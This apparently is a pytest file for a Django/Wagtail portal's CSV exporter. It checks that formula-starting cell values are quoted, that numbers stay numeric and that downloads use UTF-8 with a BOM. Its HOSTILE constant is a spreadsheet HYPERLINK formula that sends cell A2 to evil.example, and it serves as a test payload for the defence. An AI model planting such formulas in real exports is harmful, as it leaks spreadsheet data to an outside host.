"""The one CSV writer: OWASP's formula neutralising, numbers kept numeric, Excel-friendly UTF-8."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from django.utils.translation import gettext_lazy

from portal.exports import csv_response, neutralise
from tests.factories import make_user

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def rows_of(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_gets_a_quote_and_keeps_the_rest(start):
    value = f"{start}1+2 {HOSTILE}"
    assert neutralise(value) == "'" + value
    assert rows_of(csv_response("x.csv", [[value]])) == [["'" + value]]


@pytest.mark.parametrize("value", [
    "Mei", "陳美玲", "", " =1+2", "a=b", "'quoted", "100", "mei@example.com", "\n=1+2",
])
def test_text_that_is_no_formula_is_unchanged(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers_and_text_is_quoted():
    response = csv_response("x.csv", [["points", -30, Decimal("-1.5"), 0, None, "-30", "a;=1+2"]])
    line = response.content.decode().removeprefix("\ufeff").strip()
    # Computed numbers go out bare (a spreadsheet reads -30 as a number); text is always in quotes, so a
    # ";" cannot start a new cell in a spreadsheet that splits on it; text "-30" is neutralised.
    assert line == '"points",-30,-1.5,0,"","\'-30","a;=1+2"'


def test_other_values_are_neutralised_as_their_text():
    assert neutralise(timezone.datetime(2025, 1, 2, 3, 4)) == "2025-01-02 03:04:00"
    assert neutralise(gettext_lazy("-1 point")) == "'-1 point"


def test_download_opens_as_utf8_with_a_chinese_file_name():
    response = csv_response("美甲日-attendees.csv", [["name"], ["陳美玲"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E7%BE%8E%E7%94%B2%E6%97%A5-attendees.csv")
    assert rows_of(response) == [["name"], ["陳美玲"]]


@pytest.mark.django_db
def test_wagtail_report_exports_are_neutralised(client, moderator, store):
    """Wagtail's own CSV exports (here: locked pages, as moderators see it) go through the writer."""
    locker = make_user("locker@example.com", display_name=HOSTILE)
    store.title = "-2+3 Xinyi"
    store.save_revision().publish()
    type(store).objects.filter(pk=store.pk).update(locked=True, locked_by=locker, locked_at=timezone.now())
    client.force_login(moderator)
    response = client.get("/admin/reports/locked/?export=csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    rows = rows_of(response)
    store_row = next(row for row in rows if "Xinyi" in row[0])
    assert store_row[0] == "'-2+3 Xinyi"
    assert "'" + HOSTILE in store_row


def test_no_module_writes_csv_by_hand():
    """Only portal/exports.py may use the csv module: every other export goes through csv_response."""
    offenders = []
    for app in ("portal", "content", "community", "events"):
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                names = ([alias.name for alias in node.names] if isinstance(node, ast.Import)
                         else [node.module] if isinstance(node, ast.ImportFrom) else [])
                if "csv" in names and path.name != "exports.py":
                    offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == []
